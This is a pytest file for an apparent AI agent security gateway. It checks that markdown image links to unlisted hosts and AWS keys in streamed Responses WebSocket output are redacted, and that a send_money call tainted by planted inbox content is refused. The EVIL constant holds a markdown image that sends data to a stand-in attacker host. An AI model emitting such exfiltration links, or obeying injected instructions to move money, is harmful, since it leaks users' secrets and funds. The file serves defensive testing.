"""`agents.links` and an answer rule on the Responses API's WebSocket mode, end to end: the openai
SDK's `responses.connect()` through mitmdump to a fake Responses WebSocket server. The answer's text
carries an image to a host off the list and an AWS key, each split across its deltas, then a call of
`send_money`. The client gets the image as its text alone (and the key redacted, under the answer
rule) in the deltas and in every event that repeats the text whole, with the call decided as
`agents` decides it; the record counts what was found (`links.redacted`), never a URL, a key nor an
argument's value."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.support import agents, socket_agents
from tests.support.agents import INBOX, OWN, PLANTED, REFUSED
from tests.support.answers import AWS, pieces
from tests.support.fake_realtime import FakeRealtime, Script

REAL = "sk-REAL-openai-agents-ws-answers-5ecret"
ALICE = "tg-VIRTUAL-alice-agents-ws-answers-5ecret"
MODEL = "gpt-5"
EVIL = "![x](https://evil.example/p?d=SECRET)"
KEPT = "[the docs](https://docs.example.com/guide?page=2#links)"
TEXT = f"Your key is {AWS}; shown here: {EVIL} See {KEPT} for more."
LINKED = TEXT.replace(EVIL, "x")  # `agents.links` alone
REDACTED = LINKED.replace(AWS, "[REDACTED:secrets.aws_access_key_id]")  # with the answer rule
ANSWER_RULE = {"on": ["answer"], "detect": ["secrets.aws_access_key_id"], "action": "redact"}


def calling(recipient: str) -> Script:
    """Each response.create answered with `TEXT` in 4-character deltas (the image and the key each
    across several), then a call of send_money to `recipient`; events echo the create's
    `stream_id`, as OpenAI's do."""

    def script(event: dict[str, Any]) -> list[dict[str, Any]]:
        if event.get("type") != "response.create":
            return []
        lane = {"stream_id": event["stream_id"]} if "stream_id" in event else {}
        part = {"type": "output_text", "text": TEXT, "annotations": []}
        message = {"type": "message", "id": "msg_0", "status": "completed", "role": "assistant", "content": [part]}
        done, paid = socket_agents.payment(lane, recipient)
        text_at = {**lane, "item_id": "msg_0", "output_index": 0, "content_index": 0}
        response = {"id": "resp_w1", "object": "response", "status": "in_progress", "model": MODEL, "output": []}
        events = [
            {"type": "response.created", **lane, "response": response},
            {"type": "response.output_item.added", **lane, "output_index": 0, "item": {**message, "content": []}},
            {"type": "response.content_part.added", **text_at, "part": {**part, "text": ""}},
            *({"type": "response.output_text.delta", **text_at, "delta": p, "logprobs": []} for p in pieces(TEXT, 4)),
            {"type": "response.output_text.done", **text_at, "text": TEXT, "logprobs": []},
            {"type": "response.content_part.done", **text_at, "part": part},
            {"type": "response.output_item.done", **lane, "output_index": 0, "item": message},
            *paid,
            socket_agents.completed(lane, response, [message, done]),
        ]  # fmt: skip
        return [{**e, "sequence_number": n} for n, e in enumerate(events)]

    return script


def settings(fake: FakeRealtime, rule: bool) -> dict[str, Any]:
    out = socket_agents.settings(fake.url, REAL, ALICE)
    out["agents"]["links"] = {"allow": ["*.example.com"], "action": "redact"}
    if rule:
        out["guardrails"] = [ANSWER_RULE]
    return out


@pytest.fixture(scope="module")
def gw_links(start_gateway, realtime_fake):
    return start_gateway(lambda urls: settings(realtime_fake, rule=False))


@pytest.fixture(scope="module")
def gw_both(start_gateway, realtime_fake):
    return start_gateway(lambda urls: settings(realtime_fake, rule=True))


SESSION = socket_agents.responses_session(ALICE, MODEL)


def texts(events: list[dict[str, Any]]) -> dict[str, Any]:
    """What the client got of the message's text (output 0): in its deltas, and in each event that
    carries it whole; and the types of the events but the text's deltas."""
    at0 = [e for e in events if e.get("output_index") == 0]
    done = events[-1]["response"]["output"][0]
    return {
        "deltas": "".join(e["delta"] for e in at0 if e["type"] == "response.output_text.delta"),
        "text.done": next(e["text"] for e in at0 if e["type"] == "response.output_text.done"),
        "part.done": next(e["part"]["text"] for e in at0 if e["type"] == "response.content_part.done"),
        "item.done": next(e["item"]["content"][0]["text"] for e in at0 if e["type"] == "response.output_item.done"),
        "completed": done["content"][0]["text"],
    }


def others(events: list[dict[str, Any]]) -> list[str]:
    return [e["type"] for e in events if not (e["type"] == "response.output_text.delta" and e["output_index"] == 0)]


BEFORE = ["response.created", "response.output_item.added", "response.content_part.added",
          "response.output_text.done", "response.content_part.done", "response.output_item.done"]  # fmt: skip


def assert_nothing_told(gw: Any, *values: str) -> None:
    """No URL off the list, no key and no argument's value in the audit nor on the console."""
    for told in (gw.audit_path.read_text(), gw.proxy.console()):
        for value in ("evil.example", "SECRET", "docs.example.com", AWS, *values):
            assert value not in told


def test_a_link_off_the_list_comes_as_its_text_and_a_tainted_call_as_its_refusal(gw_links, realtime_fake):
    events = socket_agents.events(gw_links, realtime_fake, calling(PLANTED), SESSION)
    assert texts(events) == dict.fromkeys(("deltas", "text.done", "part.done", "item.done", "completed"), LINKED)
    assert others(events) == [*BEFORE, *agents.REFUSAL_EVENTS, "response.completed"]
    refusal = events[-2]["item"]
    assert refusal["content"][0]["text"] == REFUSED and events[-1]["response"]["output"][1] == refusal
    numbers = [e["sequence_number"] for e in events]
    assert numbers == sorted(set(numbers))
    assert "evil.example" not in json.dumps(events) and PLANTED not in json.dumps(events)
    (record,) = gw_links.new_audit(1)
    assert (record["transport"], record["status"], record["error"]) == ("websocket", 200, None)
    assert (record["answer_findings"], record["answer_redacted"]) == ({"links.redacted": 1}, 1)
    assert record["tool_calls"] == [agents.DENIED]
    assert_nothing_told(gw_links, PLANTED, OWN, "landlord@")


@pytest.mark.parametrize(
    ("recipient", "decided"),
    [(PLANTED, agents.DENIED), (OWN, agents.allowed())],
    ids=["tainted", "the-users"],
)
def test_under_an_answer_rule_the_key_is_redacted_too_and_the_call_decided(
    gw_both, realtime_fake, recipient: str, decided: dict[str, Any]
):
    events = socket_agents.events(gw_both, realtime_fake, calling(recipient), SESSION)
    assert texts(events) == dict.fromkeys(("deltas", "text.done", "part.done", "item.done", "completed"), REDACTED)
    if recipient == OWN:  # the call goes as it came, its arguments in the pieces they came in
        assert others(events) == [*BEFORE, *agents.CALL_EVENTS, "response.completed"]
        assert json.loads(events[-2]["item"]["arguments"]) == {"recipient": OWN}
        assert events[-1]["response"]["output"][1] == events[-2]["item"]
    else:
        assert others(events) == [*BEFORE, *agents.REFUSAL_EVENTS, "response.completed"]
        assert events[-2]["item"]["content"][0]["text"] == REFUSED
        assert PLANTED not in json.dumps(events)
    assert "evil.example" not in json.dumps(events) and AWS not in json.dumps(events)
    (record,) = gw_both.new_audit(1)
    assert (record["transport"], record["status"], record["error"]) == ("websocket", 200, None)
    assert record["answer_findings"] == {"secrets.aws_access_key_id": 1, "links.redacted": 1}
    assert record["answer_redacted"] == 2
    assert record["tool_calls"] == [decided]
    # The server got the response.create as the client sent it, the tool's output in it.
    (sent,) = [json.loads(m) for m in realtime_fake.sessions[-1].received]
    assert sent["type"] == "response.create" and sent["input"][2]["output"] == INBOX
    assert_nothing_told(gw_both, PLANTED, OWN, "landlord@")
